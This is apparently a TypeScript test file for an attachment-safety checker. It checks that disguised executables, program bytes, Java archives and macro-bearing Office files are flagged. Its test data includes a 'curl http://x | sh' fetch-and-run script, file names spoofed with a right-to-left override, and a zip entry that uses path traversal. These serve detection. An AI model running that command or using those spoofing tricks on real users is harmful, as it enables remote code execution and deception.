import { test } from 'node:test';
import assert from 'node:assert/strict';
import { isExecutableName, openRisk } from '../../../src/main/attachments';
import { zipToBuffer } from '../../../src/main/send/zip';

const PDF = Buffer.from('%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF\n');
const date = new Date('2026-01-01T00:00:00Z');

test('names the system would run are recognised, whatever their case or disguise', () => {
  const programs = [
    'fattura.pdf.exe', 'documento.js', 'documento.jse', 'avviso.HTA', 'scan.lnk', 'macro.docm', 'conti.xlsm', 'slide.pptm', 'x.vbs', 'x.wsf', 'x.scr',
    'x.bat', 'x.cmd', 'x.ps1', 'x.msi', 'x.jar', 'x.com', 'x.pif', 'x.reg', 'x.cpl', 'x.iso', 'x.appimage', 'x.desktop', 'x.sh', 'x.dotm', 'x.xlam',
    'fattura.exe.', 'fattura.exe . .', 'fattura.exe  ', 'fattura.exe::$DATA', 'cartella/dentro.exe', 'fattura.pdf      .exe',
  ];
  for (const name of programs) assert.ok(isExecutableName(name), name);
  for (const name of ['fattura.pdf', 'foto.jpg', 'atto.pdf.p7m', 'dati.xml', 'contratto.docx', 'bilancio.xlsx', 'exe', 'readme', 'allegato-1.bin', 'js.pdf', 'fattura.exe.pdf']) {
    assert.ok(!isExecutableName(name), name);
  }
});

test('a program by name is never opened, and the reason names its extension', async () => {
  assert.deepEqual(await openRisk('fattura.pdf.exe', PDF), { reason: 'program-name', extension: 'exe' });
  assert.deepEqual(await openRisk('avviso.js. . ', PDF), { reason: 'program-name', extension: 'js' });
  // Control characters are cleaned into "_" on disk: the name the file will have is checked too.
  assert.deepEqual(await openRisk('fattura.p\u0000df.ps1', PDF), { reason: 'program-name', extension: 'ps1' });
});

test('a right-to-left override or an invisible character in the name is a disguise, whatever the extension', async () => {
  assert.deepEqual(await openRisk('invoice\u202Efdp.exe', PDF), { reason: 'disguised-name' });
  assert.deepEqual(await openRisk('fattura\u202Egpj.pdf', PDF), { reason: 'disguised-name' });
  assert.deepEqual(await openRisk('fattura\u2066.pdf', PDF), { reason: 'disguised-name' });
  assert.deepEqual(await openRisk('fattura\u200B.pdf', PDF), { reason: 'disguised-name' });
});

test('programs and scripts are recognised by their bytes under an innocent name', async () => {
  const cases: [string, Buffer][] = [
    ['Windows program (MZ)', Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), Buffer.from('PE\0\0')])],
    ['ELF program', Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0])],
    ['Mach-O program', Buffer.from([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1])],
    ['Mach-O program', Buffer.from([0xfe, 0xed, 0xfa, 0xce, 0, 0, 0, 7])],
    ['Mach-O universal program or Java class', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2])],
    ['script (#!)', Buffer.from('#!/bin/sh\ncurl http://x | sh\n')],
  ];
  for (const [format, bytes] of cases) assert.deepEqual(await openRisk('fattura.pdf', bytes), { reason: 'program-content', format });
});

test('a zip that is a Java archive is a program whatever its name', async () => {
  const jar = await zipToBuffer([{ name: 'META-INF/MANIFEST.MF', content: Buffer.from('Main-Class: a.Main\n') }, { name: 'a/Main.class', content: Buffer.from([0xca, 0xfe, 0xba, 0xbe]) }], date);
  assert.deepEqual(await openRisk('documenti.zip', jar), { reason: 'program-content', format: 'Java archive (jar)' });
  const classesOnly = await zipToBuffer([{ name: 'Main.class', content: Buffer.from([0xca, 0xfe, 0xba, 0xbe]) }], date);
  assert.deepEqual(await openRisk('documenti.zip', classesOnly), { reason: 'program-content', format: 'Java archive (jar)' });
});

test('an Office document with macros is recognised by its VBA project, even named .docx', async () => {
  const docm = await zipToBuffer(
    [
      { name: '[Content_Types].xml', content: Buffer.from('<Types/>') },
      { name: 'word/document.xml', content: Buffer.from('<w:document/>') },
      { name: 'word/vbaProject.bin', content: Buffer.from([0xd0, 0xcf, 0x11, 0xe0]) },
    ],
    date,
  );
  assert.deepEqual(await openRisk('contratto.docx', docm), { reason: 'macros' });
  // An OLE compound file (.doc, .xls) whose directory holds a VBA storage.
  const ole = Buffer.alloc(2048);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(ole);
  Buffer.from('_VBA_PROJECT_CUR\0', 'utf16le').copy(ole, 1024);
  assert.deepEqual(await openRisk('bilancio.xls', ole), { reason: 'macros' });
});

test('ordinary documents open: PDF, plain Office files, zips of documents, unreadable zips, empty files', async () => {
  const docx = await zipToBuffer([{ name: '[Content_Types].xml', content: Buffer.from('<Types/>') }, { name: 'word/document.xml', content: Buffer.from('<w:document/>') }], date);
  const zip = await zipToBuffer([{ name: 'fattura.pdf', content: PDF }, { name: '../../fuori.pdf', content: PDF }], date);
  const plainOle = Buffer.alloc(1024);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(plainOle);
  Buffer.from('WordDocument\0', 'utf16le').copy(plainOle, 512);
  const cases: [string, Buffer][] = [
    ['fattura.pdf', PDF],
    ['contratto.docx', docx],
    ['documenti.zip', zip],
    ['relazione.doc', plainOle],
    ['rotto.zip', Buffer.from('PK\u0003\u0004 not really a zip', 'latin1')],
    ['vuoto.txt', Buffer.alloc(0)],
    ['m.txt', Buffer.from('M')],
  ];
  for (const [name, bytes] of cases) assert.equal(await openRisk(name, bytes), null, name);
});
